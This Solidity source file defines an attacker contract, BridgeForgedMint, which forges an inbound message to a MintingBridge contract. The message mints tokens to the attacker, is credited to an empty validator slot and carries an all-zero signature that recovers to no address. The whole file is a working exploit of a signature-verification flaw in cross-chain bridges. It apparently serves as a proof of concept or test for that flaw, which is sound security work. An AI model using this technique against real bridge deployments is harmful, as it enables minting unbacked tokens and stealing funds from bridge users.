// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {MintingBridge} from "../bridge/MintingBridge.sol";

/// @notice Submits an inbound message minting `amount` of the bridge's token to this contract,
/// attributed to the first empty validator slot, with a signature that recovers to no one.
contract BridgeForgedMint {
    function relay(MintingBridge bridge, uint256 amount, uint64 nonce) external {
        bytes memory message = abi.encode(bridge.remoteDomain(), bridge.localDomain(), nonce, address(this), amount);
        bridge.receiveMessage(message, uint8(bridge.validatorCount()), new bytes(65));
    }
}
